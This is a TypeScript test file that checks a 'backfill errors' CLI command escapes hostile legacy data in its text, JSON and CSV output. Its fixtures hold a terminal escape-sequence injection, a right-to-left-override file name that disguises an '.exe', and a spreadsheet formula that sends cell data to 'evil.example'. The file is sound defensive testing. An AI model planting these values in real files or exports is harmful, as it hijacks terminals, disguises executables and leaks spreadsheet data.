import { expect } from 'chai';
import pg from 'pg';
import { migrateToLatest } from '../../src/schema/migrator.js';
import { runCli } from '../helpers/cli.js';
import { createTestDatabase, testEnv, type TestDatabase } from '../helpers/isolation.js';
import { allMigrations } from '../../migrations/index.js';

/**
 * File paths, keys and messages of row errors come from the legacy data: whoever named a file controls them.
 * `backfill errors` must not let them drive the operator's terminal (escape sequences) nor a spreadsheet
 * (formulas), while --json and --csv keep the data itself.
 */
const HOSTILE = {
  osc: '/music/\u001b]0;owned\u0007\u001b[2J\u001b[31mred.mp3',
  c1: '/music/\u009b31mcsi.mp3',
  bidi: '/music/\u202egpm.exe',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
};
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const RAW_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('backfill errors: output that the data cannot abuse', function () {
  this.timeout(60_000);
  let db: TestDatabase;
  let jobId: number;
  const errors = (args: string[]) => runCli(['backfill', 'errors', String(jobId), ...args], { env: testEnv({ DATABASE_URL: db.url }) });

  before(async () => {
    db = await createTestDatabase('tm_cli_errors');
    await migrateToLatest(db.url, allMigrations);
    const pool = new pg.Pool({ connectionString: db.url, max: 1 });
    try {
      const { rows } = await pool.query<{ id: number }>(
        `INSERT INTO backfill_jobs (analysis_version, range_size, state) VALUES ('2024.1', 250, 'completed') RETURNING id::float8 AS id`);
      jobId = (rows[0] as { id: number }).id;
      await pool.query(
        `INSERT INTO backfill_errors (job_id, range_id, track_id, file_path, code, key, message)
         SELECT $1, 1, t.n, t.path, 'invalid_value', t.key, t.message
           FROM unnest($2::text[], $3::text[], $4::text[]) WITH ORDINALITY AS t(path, key, message, n)`,
        [jobId, [HOSTILE.osc, HOSTILE.c1, HOSTILE.bidi, HOSTILE.formula], ['+cmd', '@SUM(1)', '\tkey', '-2+3'], ['bad \u001b[1mvalue', 'x\ry', 'ok', '=1+1']]);
    } finally {
      await pool.end();
    }
  });
  after(() => db.drop());

  it('text: control and bidi characters are shown escaped, never sent to the terminal', async () => {
    const result = await errors([]);
    expect(result.code, result.stderr).to.equal(0);
    expect(result.stdout).to.not.match(RAW_CONTROLS);
    expect(result.stdout).to.include('/music/\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mred.mp3');
    expect(result.stdout).to.include('/music/\\x9b31mcsi.mp3').and.to.include('/music/\\u{202e}gpm.exe');
    expect(result.stdout.trim().split('\n')).to.have.length(4);
  });

  it('--json: the exact data, with every control character escaped', async () => {
    const result = await errors(['--json']);
    expect(result.code, result.stderr).to.equal(0);
    expect(result.stdout).to.not.match(RAW_CONTROLS);
    const parsed = JSON.parse(result.stdout) as { filePath: string; key: string }[];
    expect(parsed.map((e) => e.filePath)).to.deep.equal([HOSTILE.osc, HOSTILE.c1, HOSTILE.bidi, HOSTILE.formula]);
    expect(parsed.map((e) => e.key)).to.deep.equal(['+cmd', '@SUM(1)', '\tkey', '-2+3']);
  });

  it('--csv: no cell starts a formula (= + - @ tab CR are prefixed with a quote)', async () => {
    const result = await errors(['--csv']);
    expect(result.code, result.stderr).to.equal(0);
    const lines = result.stdout.trim().split('\n');
    expect(lines[0]).to.equal('track_id,file_path,code,key,message');
    expect(lines).to.include(`4,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",invalid_value,'-2+3,'=1+1`);
    expect(lines).to.include(`2,/music/\u009b31mcsi.mp3,invalid_value,'@SUM(1),"x\ry"`);
    expect(result.stdout).to.include(`,'\tkey,`).and.to.include(`,'+cmd,`);
  });
});
